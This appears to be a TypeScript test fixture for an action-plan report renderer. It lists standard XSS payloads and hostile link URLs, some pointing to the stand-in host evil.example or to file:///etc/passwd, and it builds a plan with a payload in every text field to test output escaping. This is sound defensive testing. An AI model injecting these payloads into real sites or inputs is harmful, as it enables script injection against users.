/**
 * Well-known XSS payloads (OWASP's filter-evasion cheat sheet and common variants), and a plan
 * with one in every text field the report shows.
 */
export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">click</a>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<iframe src="https://evil.example/"></iframe>',
  '<body onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!--<script>alert(1)//-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<form action="https://evil.example/"><button>Go</button></form>',
  '<object data="https://evil.example/x.swf"></object>',
  '<details open ontoggle=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
];

/** URLs a link may not have: each must be shown as text, never as a link. */
export const HOSTILE_URLS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/x',
  'file:///etc/passwd',
];

/** A valid plan (JSON) with payload number `n + k` in its k-th text field, so every field holds a different one. */
export function hostilePlan(offset = 0): { plan: unknown; used: string[] } {
  const used: string[] = [];
  let next = offset;
  const p = () => {
    const payload = PAYLOADS[next++ % PAYLOADS.length];
    used.push(payload);
    return payload;
  };
  const statusKey = 'ok';
  const plan = {
    title: p(),
    partnership: p(),
    summary: `${p()}\n\n${p()}`,
    period: '2013/14',
    asOf: '2014-01-31',
    statusScheme: [
      { key: statusKey, label: p(), definition: p(), colour: 'green' },
      { key: 'done', label: p(), definition: p(), colour: 'blue', complete: true },
      { key: 'bad', label: p(), colour: 'red' },
    ],
    agencies: [{ id: 'AG', name: p() }],
    footnotes: [{ mark: '*', text: p() }],
    risks: [{ id: 'R1', title: p(), status: 'bad', owner: 'AG', mitigation: p() }],
    themes: [
      {
        id: 'T1',
        title: p(),
        aim: p(),
        description: p(),
        objectives: [p(), p()],
        lead: 'AG',
        partners: [p()],
        notes: p(),
        links: [{ text: p(), url: 'https://example.org/?q=<script>alert(1)</script>"onmouseover="x' }, ...HOSTILE_URLS.map((url) => ({ text: p(), url }))],
        actions: [
          {
            id: 'A1',
            title: p(),
            lead: [{ agency: 'AG', officer: p() }],
            partners: [p(), { agency: 'AG', officer: p(), group: p() }],
            due: 'March 2014',
            status: statusKey,
            objective: p(),
            outcome: [p()],
            outputs: [p()],
            measures: [p()],
            baseline: p(),
            target: p(),
            notes: p(),
            links: [{ text: p(), url: 'mailto:someone@example.org' }, { text: p(), url: 'javascript:alert(1)' }],
            updates: [
              { asOf: '2013-09-30', status: 'bad', text: p(), value: p(), by: p() },
              { asOf: '2013-12-31', status: p(), text: p() },
            ],
            milestones: [
              {
                id: 'M1',
                title: p(),
                due: 'June 2013',
                lead: 'AG',
                partners: [p(), { agency: p(), group: p() }],
                measure: [p()],
                notes: p(),
                links: [{ text: p(), url: 'javascript:alert(1)' }],
                updates: [{ asOf: '2013-06-30', status: 'bad', text: p() }],
              },
              { title: p(), due: p() },
            ],
          },
          { title: p(), due: 'Ongoing', status: 'done' },
        ],
      },
    ],
  };
  return { plan, used };
}
